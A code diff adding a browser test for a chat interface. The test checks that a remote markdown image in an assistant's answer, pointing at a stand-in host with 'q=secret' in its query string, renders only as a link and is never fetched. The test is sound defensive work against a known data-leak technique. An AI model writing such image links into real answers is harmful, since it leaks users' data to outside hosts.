@@ -248,6 +248,28 @@ describe('UI against a scripted gateway', () => {
     await clean(page);
   });
 
+  it('a remote image in an answer is shown as a link and never requested', async () => {
+    const M = 'ffffffff-0000-4000-8000-00000000000f';
+    const { page } = await open((ws) => {
+      ready(ws);
+      ws.send({ type: 'user_message', message_id: M, content: 'q', seq: 1 });
+      ws.send({ type: 'chunk', message_id: M, attempt: 1, index: 0, text: 'Here: ![chart](http://leak.test/pixel.png?q=secret)', seq: 2 });
+      ws.send({ type: 'done', message_id: M, attempt: 1, finish_reason: 'stop', seq: 3 });
+    });
+    const requested = [];
+    page.on('request', (request) => {
+      if (new URL(request.url()).hostname === 'leak.test') requested.push(request.url());
+    });
+    await page.locator('[data-testid=turn][data-status=done]').waitFor();
+    const link = page.locator('[data-testid=answer-text] a', { hasText: 'chart' });
+    assert.equal(await link.getAttribute('href'), 'http://leak.test/pixel.png?q=secret');
+    assert.equal(await page.locator('[data-testid=answer-text] img').count(), 0);
+    // The page is idle once the answer is drawn: any image load has started.
+    await page.waitForLoadState('networkidle');
+    assert.deepEqual(requested, []);
+    await clean(page);
+  });
+
   it('hostile markup in an answer is inert', async () => {
     const M = 'eeeeeeee-0000-4000-8000-00000000000e';
     const { page, dialogs } = await open((ws) => {
